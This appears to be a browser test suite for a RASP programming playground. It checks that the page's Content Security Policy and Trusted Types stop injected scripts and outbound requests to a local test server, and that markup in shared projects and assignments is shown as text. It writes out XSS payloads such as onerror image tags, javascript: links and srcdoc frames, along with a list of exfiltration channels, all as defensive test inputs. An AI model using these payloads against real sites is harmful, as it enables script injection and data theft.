// The page under attack: its Content Security Policy and Trusted Types against whatever could run or send something,
// and hostile programs, links and files. Each attempt is one that works on a page without the policy (checked on such a
// page first).
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { deflateRawSync } from 'node:zlib';
import { editor, root, settled, type } from './browser.mjs';
import { journeys } from './journeys.mjs';

const { test, end } = await journeys();

// Another origin that counts what reaches it: by path.
const reached = [];
const foreign = createServer((request, response) => {
  reached.push(new URL(request.url, 'http://x').pathname);
  response
    .writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' })
    .end('globalThis.hit = "foreign";');
});
await new Promise((resolve) => foreign.listen(0, '127.0.0.1', resolve));
const outside = `http://127.0.0.1:${foreign.address().port}`;

/** Runs in the page: every attempt's outcome. `hit` is set by whatever runs. */
const attack = async (there) => {
  await new Promise((r) => {
    setTimeout(r, 50);
  }); // the inspector's own leave to evaluate ends with its call
  const out = {};
  // where an attempt is known to work, it is waited for: a busy machine is no defence
  let most = globalThis.plain ? 5000 : 150;
  const pause = async () => {
    for (const until = performance.now() + most; !globalThis.hit && performance.now() < until; )
      await new Promise((r) => {
        setTimeout(r, 25);
      });
  };
  const attempt = async (name, f) => {
    globalThis.hit = null;
    let threw = '';
    try {
      await f();
      await pause();
    } catch (e) {
      threw = e.name;
    }
    out[name] = globalThis.hit ? 'ran' : threw || 'nothing';
  };
  const element = (tag, set) => {
    const e = document.createElement(tag);
    for (const [k, v] of Object.entries(set)) e.setAttribute(k, v);
    document.body.append(e);
    return e;
  };
  const html = '<img src="x:" onerror="globalThis.hit = 1">';
  await attempt('eval', () => {
    (0, eval)('globalThis.hit = 1');
  });
  await attempt('new Function', () => {
    new Function('globalThis.hit = 1')();
  });
  await attempt('timer with text', () => {
    setTimeout('globalThis.hit = 1', 0);
  });
  await attempt('inline script', () => {
    const s = document.createElement('script');
    s.append('globalThis.hit = 1');
    document.body.append(s);
  });
  await attempt('script from a blob', () => {
    element('script', {}).src = URL.createObjectURL(new Blob(['globalThis.hit = 1']));
  });
  await attempt('script from elsewhere', () => {
    element('script', {}).src = `${there}/script`;
  });
  await attempt('import from elsewhere', () => import(`${there}/module`));
  await attempt('import of data', () => import('data:text/javascript,globalThis.hit=1'));
  await attempt('innerHTML', () => {
    document.body.appendChild(document.createElement('div')).innerHTML = html;
  });
  await attempt('outerHTML', () => {
    document.body.appendChild(document.createElement('div')).outerHTML = html;
  });
  await attempt('insertAdjacentHTML', () => {
    document.body.insertAdjacentHTML('beforeend', html);
  });
  await attempt('createContextualFragment', () => {
    document.body.append(document.createRange().createContextualFragment(html));
  });
  await attempt('document.write', () => {
    if (!globalThis.plain) document.write(html);
    else globalThis.hit = 1;
  }); // would replace the test itself
  await attempt('handler attribute', () => {
    element('button', { onclick: 'globalThis.hit = 1' }).click();
  });
  await attempt('javascript: link', () => {
    element('a', { href: 'javascript:void(globalThis.hit = 1)' }).click();
  });
  await attempt('javascript: frame', () => {
    element('iframe', { src: 'javascript:void(parent.hit = 1)' });
  });
  await attempt('srcdoc frame', () => {
    document.body.appendChild(document.createElement('iframe')).srcdoc = '<script>parent.hit = 1</script>';
  });
  await attempt('data worker', () => {
    const w = new Worker('data:text/javascript,postMessage(1)');
    w.onmessage = () => {
      globalThis.hit = 1;
    };
    return new Promise((r) => {
      setTimeout(r, 300);
    });
  });
  await attempt('a policy of its own', () => {
    globalThis.trustedTypes.createPolicy('mine', { createHTML: (x) => x });
    globalThis.hit = 1;
  });
  // Sending: none of these may reach the other origin.
  most = 150;
  await attempt('fetch', () => fetch(`${there}/fetch`));
  await attempt('beacon', () => {
    navigator.sendBeacon(`${there}/beacon`, 'secret');
  });
  await attempt('image', () => {
    new Image().src = `${there}/image`;
  });
  await attempt('style sheet', () => {
    element('link', { rel: 'stylesheet', href: `${there}/style` });
  });
  await attempt('style attribute', () => {
    element('div', { style: `background: url(${there}/background)` });
  });
  await attempt('font', async () => {
    await new FontFace('f', `url(${there}/font)`).load();
  });
  await attempt('media', () => {
    element('video', { src: `${there}/media` });
  });
  await attempt('object', () => {
    element('object', { data: `${there}/object` });
  });
  await attempt('frame', () => {
    element('iframe', { src: `${there}/frame` });
  });
  await attempt('socket', () => {
    new WebSocket(`${there.replace('http', 'ws')}/socket`);
  });
  await attempt('event source', () => {
    new EventSource(`${there}/events`);
  });
  await attempt('form', () => {
    element('iframe', { name: 'into' });
    const f = element('form', { action: `${there}/form`, method: 'post', target: 'into' });
    f.submit();
  });
  await attempt('base', () => {
    element('base', { href: `${there}/base/` });
    const i = new Image();
    i.src = 'relative';
    document.body.append(i);
  });
  await new Promise((r) => {
    setTimeout(r, 500);
  });
  return out;
};
const sends = [
  'script',
  'module',
  'fetch',
  'beacon',
  'image',
  'style',
  'background',
  'font',
  'media',
  'object',
  'frame',
  'socket',
  'events',
  'form',
  'base/relative',
];

await test('the attempts work on a page without a policy', async (fresh, browser) => {
  const bare = createServer((_, response) =>
    response
      .writeHead(200, { 'content-type': 'text/html' })
      .end('<!doctype html><body><script>globalThis.plain = true</script>'),
  );
  await new Promise((resolve) => bare.listen(0, '127.0.0.1', resolve));
  const page = await browser.newPage();
  await page.goto(`http://127.0.0.1:${bare.address().port}/`);
  reached.length = 0;
  const out = await page.evaluate(attack, outside);
  await page.close();
  bare.close();
  for (const [name, how] of Object.entries(out))
    if (
      ![
        'fetch',
        'beacon',
        'image',
        'style sheet',
        'style attribute',
        'font',
        'media',
        'object',
        'frame',
        'socket',
        'event source',
        'form',
        'base',
      ].includes(name)
    )
      assert.equal(how, 'ran', name);
  // a socket's request is an upgrade, which the server does not count
  const missing = sends.filter((s) => s !== 'socket' && !reached.includes(`/${s}`));
  assert.deepEqual(missing, []);
});

await test('none of them works on ours', async (fresh) => {
  const page = await fresh();
  await settled(page);
  reached.length = 0;
  const out = await page.evaluate(attack, outside);
  for (const [name, how] of Object.entries(out)) assert.notEqual(how, 'ran', name);
  assert.deepEqual(reached, []);
  assert.ok(page.problems.length > 20, 'the policy’s own reports');
  page.problems.length = 0;
  await type(page, 'alive = indices;\n'); // and the page is none the worse for it
  await page.waitForFunction(() => document.querySelector('.result h2')?.textContent === 'alive');
});

await test('the policy for static hosts is the page’s own', async (fresh) => {
  const headers = readFileSync(path.join(root, 'web/dist/_headers'), 'utf8');
  const page = await fresh();
  const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  const parts = (policy) =>
    policy
      .split(';')
      .map((p) => p.trim())
      .filter(Boolean);
  const header = parts(/^\s*Content-Security-Policy: (.*)$/m.exec(headers)[1]);
  for (const part of parts(meta)) assert.ok(header.includes(part), part);
  assert.ok(!/unsafe-inline|'unsafe-eval'|\*/.test(meta + header.join(';')));
  for (const name of ['X-Content-Type-Options: nosniff', 'Referrer-Policy: no-referrer', 'Permissions-Policy:'])
    assert.ok(headers.includes(name), name);
});

const mark = '<img src=x onerror="globalThis.hit=1"><script>globalThis.hit=1</script>';

await test('markup in programs, names and settings of a link is shown as text', async (fresh) => {
  const project = {
    files: {
      [`${mark}.rasp`.slice(0, 99)]:
        `#@ title ${mark}\n#@ description ${mark}\n# ${mark}\nx = tokens;\ny = "${mark.replaceAll('"', '\\"')}";\n`,
      'b.rasp': '',
    },
    active: 'b.rasp',
    settings: { input: mark, output: mark },
  };
  project.active = Object.keys(project.files)[0];
  const page = await fresh(`#1.z.${deflateRawSync(JSON.stringify(project)).toString('base64url')}`);
  await editor(page).waitFor();
  await page.waitForTimeout(500);
  await page.click('text=Share');
  await page.waitForFunction(() => document.querySelector('#share-link')?.value);
  await page.keyboard.press('Escape');
  await page.click('text=Examples');
  assert.equal(await page.evaluate(() => globalThis.hit ?? null), null);
  assert.equal(await page.locator('img[src="x"]').count(), 0);
  assert.ok((await page.locator('body').textContent()).includes('<img src=x'));
});

await test('markup in an assignment is cleaned, and a bad one is refused with a place', async (fresh) => {
  const assignment = JSON.parse(readFileSync(path.join(root, 'examples/assignments/first-steps.json'), 'utf8'));
  assignment.statement = `Hello ${mark} [click](javascript:globalThis.hit=1) <a href="javascript:globalThis.hit=1" onclick="globalThis.hit=1">there</a> <iframe src="x"></iframe> <form action="x"></form>`;
  assignment.tasks = assignment.tasks.slice(0, 1);
  const link = (value) => `#assignment=${deflateRawSync(JSON.stringify(value)).toString('base64url')}`;
  const page = await fresh(link(assignment));
  await page.locator('.course-cases').waitFor();
  await page.waitForFunction(() => document.querySelector('.course').textContent.includes('Hello'));
  for (const a of await page.locator('.course a').all())
    assert.doesNotMatch(String(await a.getAttribute('href')), /javascript:/);
  assert.equal(
    await page
      .locator('.course img[src], .course [onerror], .course [onclick], .course script, .course iframe, .course form')
      .count(),
    0,
  );
  assert.equal(await page.evaluate(() => globalThis.hit ?? null), null);
  // The cleaner's own document has the page's policy, and the browser reports what it keeps from running there.
  assert.ok(
    page.problems.every((p) => /inline event handler violates[^]*blocked/.test(p)),
    page.problems.join('\n'),
  );
  page.problems.length = 0;
  const other = await fresh(link({ ...assignment, tasks: 'none' }));
  await other.waitForFunction(() => /tasks must be an array/.test(document.body.textContent));
});

await test('files that are no projects are refused with a reason, and own work stays', async (fresh) => {
  const page = await fresh();
  await settled(page);
  const folder = mkdtempSync(path.join(tmpdir(), 'rasp-files-'));
  const drop = async (name, content) => {
    writeFileSync(path.join(folder, name), content);
    await page.evaluate(
      ([n, c]) => {
        const data = new DataTransfer();
        data.items.add(new File([c], n));
        for (const kind of ['dragover', 'drop'])
          document.body.dispatchEvent(new DragEvent(kind, { dataTransfer: data, bubbles: true, cancelable: true }));
      },
      [name, content],
    );
  };
  for (const [name, content, reason] of [
    ['a.json', '{', /not a program, a project, a model or an assignment/],
    ['b.json', '{"format":"rasp-playground","version":2}', /newer version/],
    ['c.json', '[]', /not a project/],
    ['d.json', '{"format":"rasp-playground","version":1,"files":{"__proto__":"x"},"active":"__proto__"}', /bad name/],
    [`${'n'.repeat(120)}.rasp`, 'x = tokens;', /bad name/],
  ]) {
    await drop(name, content);
    await page.waitForFunction(
      (r) => new RegExp(r).test(document.querySelector('.notices').textContent),
      reason.source,
    );
    assert.equal(await page.locator('.result h2').textContent(), 'Reverse');
  }
  await drop('fine.rasp', 'fine = indices;\n');
  await page.waitForFunction(() => document.querySelector('.result h2')?.textContent === 'fine');
});

foreign.close();
await end();
